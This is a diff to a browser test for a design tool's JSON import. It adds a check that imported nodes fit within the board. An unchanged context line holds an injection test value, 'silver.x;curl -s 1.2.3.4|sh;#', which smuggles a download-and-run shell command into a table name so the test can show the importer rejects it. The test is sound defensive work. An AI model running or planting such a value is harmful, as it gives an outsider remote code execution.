@@ -54,6 +54,11 @@ test('files and links carrying what the inspector refuses are refused, with the 
   await importFile(page, 'good.json', backfillFile());
   await page.locator('.notice').filter({ hasText: 'Imported good.json' }).waitFor();
   assert.equal(await nodes(page).count(), 5);
+  // An imported design is fitted into view: no node runs off the board.
+  const board = await page.locator('svg.board').boundingBox();
+  for (const box of await nodes(page).evaluateAll((els) => els.map((e) => e.getBoundingClientRect().toJSON()))) {
+    assert.ok(box.left >= board.x - 1 && box.right <= board.x + board.width + 1, `node at ${box.left}-${box.right} outside ${board.x}-${board.x + board.width}`);
+  }
 
   const cases = [
     ['injection.json', backfillFile({ table: 'silver.x;curl -s 1.2.3.4|sh;#' }), /letters, digits/],
